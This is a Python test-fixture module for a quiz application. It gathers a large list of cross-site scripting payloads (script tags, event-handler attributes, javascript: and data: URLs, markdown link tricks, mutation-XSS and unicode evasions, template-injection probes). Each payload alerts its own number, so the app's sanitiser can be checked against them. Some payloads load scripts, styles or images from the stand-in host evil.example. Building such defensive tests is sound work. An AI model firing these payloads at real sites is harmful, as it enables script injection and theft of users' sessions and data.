"""Texts that would run a script wherever they are shown as anything but text; each says its own number if it does."""

from __future__ import annotations

import re

from quizapp.core.document import CONTROL

from .composed import composed

_TAGS = """
<script>alert(N)</script>
<ScRiPt>alert(N)</sCrIpT>
<script >alert(N)</script >
<script/x>alert(N)</script>
<script type=module>alert(N)</script>
<script src=//evil.example/N.js></script>
<script src="data:text/javascript,alert(N)"></script>
<scr<script>ipt>alert(N)</scr</script>ipt>
<<script>alert(N);//<</script>
<script>alert(N)
<img src=x onerror=alert(N)>
<img src=x onerror="alert(N)"//
<img/src/onerror=alert(N)>
<img src=`x` onerror=alert(N)>
<img src="x:gif" onerror="window['al\\u0065rt'](N)">
<img srcset="x 1x" onerror=alert(N)>
<image src=x onerror=alert(N)>
<img src=//evil.example/N.png>
<svg onload=alert(N)>
<svg/onload=alert(N)//
<svg><script>alert(N)</script></svg>
<svg><script href="data:,alert(N)"></script></svg>
<svg><animate onbegin=alert(N) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(N)"><text x=9 y=9>N</text></a></svg>
<svg><set attributeName=onmouseover to=alert(N)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(N)</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>parent.alert(N)</script>"></iframe></foreignObject></svg>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(N)">N</maction></math>
<math href="javascript:alert(N)">N</math>
<body onload=alert(N)>
<body onpageshow=alert(N)>
<iframe src="javascript:alert(N)"></iframe>
<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>
<iframe src=//evil.example/N></iframe>
<object data="javascript:alert(N)"></object>
<embed src="data:text/html,<script>alert(N)</script>">
<video src=x onerror=alert(N)></video>
<video><source onerror=alert(N)></video>
<audio src=x onerror=alert(N)></audio>
<input autofocus onfocus=alert(N)>
<select autofocus onfocus=alert(N)></select>
<textarea autofocus onfocus=alert(N)></textarea>
<button autofocus onfocus=alert(N)>N</button>
<details open ontoggle=alert(N)><summary>N</summary></details>
<marquee onstart=alert(N)>N</marquee>
<div style="animation-name:x" onanimationstart=alert(N)>N</div>
<p onmouseover=alert(N) style="position:fixed;inset:0">N</p>
<form action="javascript:alert(N)"><button>N</button></form>
<form id=x></form><button form=x formaction="javascript:alert(N)">N</button>
<a href="javascript:alert(N)">N</a>
<a href=" &#14; javascript:alert(N)">N</a>
<a href="jav&#x09;ascript:alert(N)">N</a>
<a href="java&NewLine;script:alert(N)">N</a>
<base href="//evil.example/">
<link rel=stylesheet href=//evil.example/N.css>
<link rel=import href=//evil.example/N>
<meta http-equiv=refresh content="0;url=javascript:alert(N)">
<meta http-equiv="refresh" content="0;url=//evil.example/N">
<style>@import '//evil.example/N.css';</style>
<style>*{background:url(//evil.example/N)}</style>
<div style="background:url(//evil.example/N)">N</div>
<template><script>alert(N)</script></template>
<dialog open onclose=alert(N)><form method=dialog><button>N</button></form></dialog>
<xss onpointerover=alert(N) tabindex=1 id=x>N</xss>
"""
_BREAKING = """
"><script>alert(N)</script>
'><script>alert(N)</script>
"><img src=x onerror=alert(N)>
' autofocus onfocus=alert(N) x='
" autofocus onfocus=alert(N) x="
` autofocus onfocus=alert(N) x=`
" onmouseover="alert(N)
\\"><script>alert(N)</script>
--><script>alert(N)</script><!--
]]><script>alert(N)</script>
</title><script>alert(N)</script>
</textarea><script>alert(N)</script>
</style><script>alert(N)</script>
</script><script>alert(N)</script>
</option></select><img src=x onerror=alert(N)>
</template><img src=x onerror=alert(N)>
</svg><img src=x onerror=alert(N)>
?><img src=x onerror=alert(N)>
*/alert(N)/*
';alert(N);'
";alert(N);"
${alert(N)}
`${alert(N)}`
{{7*7}} {{ alert(N) }}
{% print(N) %}{{ config }}
{{constructor.constructor('alert(N)')()}}
{{"".__class__.__mro__[1].__subclasses__()}}
<%= alert(N) %>
#{alert(N)}
javascript:alert(N)
%3Cscript%3Ealert(N)%3C/script%3E
&lt;script&gt;alert(N)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(N)&amp;gt;
&#60;script&#62;alert(N)&#60;/script&#62;
&#x3c;img src=x onerror=alert(N)&#x3e;
\\u003cscript\\u003ealert(N)\\u003c/script\\u003e
\\x3cimg src=x onerror=alert(N)\\x3e
"""
_MARKDOWN = """
[N](javascript:alert(N))
[N](JaVaScRiPt:alert(N))
[N](java&#115;cript:alert(N))
[N](&#x6A;avascript:alert(N))
[N](java%0ascript:alert(N))
[N](<javascript:alert(N)>)
[N](\u0001javascript:alert(N))
[N](vbscript:alert(N))
[N](data:text/html,<script>alert(N)</script>)
[N](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[N](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[N](//evil.example/N)
[N](https://coast.example "x" onmouseover="alert(N))
[N](https://coast.example 'x" onmouseover="alert(N)')
[N](https://coast.example/"onmouseover="alert(N))
[N](https://coast.example/`onmouseover=`alert(N))
<javascript:alert(N)>
<https://coast.example/"onmouseover="alert(N)>
![N](javascript:alert(N))
![N](x"onerror="alert(N))
![" onerror="alert(N)](x)
![N](x 'y" onerror="alert(N)')
![N](//evil.example/N.png)
![N](https://evil.example/N.png)
![N](\\\\evil.example/N.png)
![N](/\\evil.example/N.png)
![N](data:image/svg+xml,<svg/onload=alert(N)>)
![N](data:text/html,<script>alert(N)</script>)
![N](data:image/png;base64,x" onerror="alert(N))
![[N](javascript:alert(N))](x)
[![N](x "javascript:alert(N)")](javascript:alert(N))
[N][n]  [n]: javascript:alert(N)
`<script>alert(N)</script>`
```<script>alert(N)</script>
*<script>alert(N)</script>*
| <script>alert(N)</script> | <img src=x onerror=alert(N)> |
> <script>alert(N)</script>
"""
_MUTATING = """
<noscript><p title="</noscript><img src=x onerror=alert(N)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(N)&gt;">
<svg></p><style><a id="</style><img src=x onerror=alert(N)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(N)>
<math><mi><table><mi><style><!--</style><a title="--><img src=x onerror=alert(N)>">
<textarea><img title="</textarea><img src=x onerror=alert(N)>">
<xmp><img title="</xmp><img src=x onerror=alert(N)>">
<listing>&lt;img src=x onerror=alert(N)&gt;</listing>
<!--><img src=x onerror=alert(N)>-->
<!--!><img src=x onerror=alert(N)>
<![CDATA[><img src=x onerror=alert(N)>]]>
<?xml version="1.0"?><img src=x onerror=alert(N)>
<a<b onmouseover=alert(N)>N
<p/onclick=alert(N)>N
\uff1cscript\uff1ealert(N)\uff1c/script\uff1e
\u02bcscript\u02bc \ufe64script\ufe65alert(N)\ufe64/script\ufe65
<\u0130mg src=x onerror=alert(N)>
<\u017fcript>alert(N)</\u017fcript>
<img src=x one\u00adrror=alert(N)>
\u202e>tpircs/<)N(trela>tpircs<
\u2067<img src=x onerror=alert(N)>\u2069
\u200f"><img src=x onerror=alert(N)>\u200e
<img\u2028src=x\u2029onerror=alert(N)>
<img\u00a0src=x onerror=alert(N)>
<img\u3000src=x\u3000onerror=alert(N)>
\ufeff<script>alert(N)</script>
<scr\u200bipt>alert(N)</scr\u200bipt>
"""

LINES = "\n".join(group.strip() for group in (_TAGS, _BREAKING, _MARKDOWN, _MUTATING)).split("\n")
PAYLOADS = [re.sub(r"\bN\b", str(number), line) for number, line in enumerate([*LINES, *composed()])]
#: Those that may stand in a document, which takes no control characters.
WRITTEN = [payload for payload in PAYLOADS if not CONTROL.search(payload)]
#: All of them in one text, each a paragraph of its own, and some within another; none makes a gap of a cloze.
ALL = "\n\n".join([*WRITTEN, *(f"Before {payload} after" for payload in WRITTEN[: len(LINES) : 12])])


def chunks(most: int) -> list[str]:
    """All of them in lines of at most so many characters."""
    found = [""]
    for payload in WRITTEN:
        if len(found[-1]) + len(payload) + 1 > most:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()
    return found
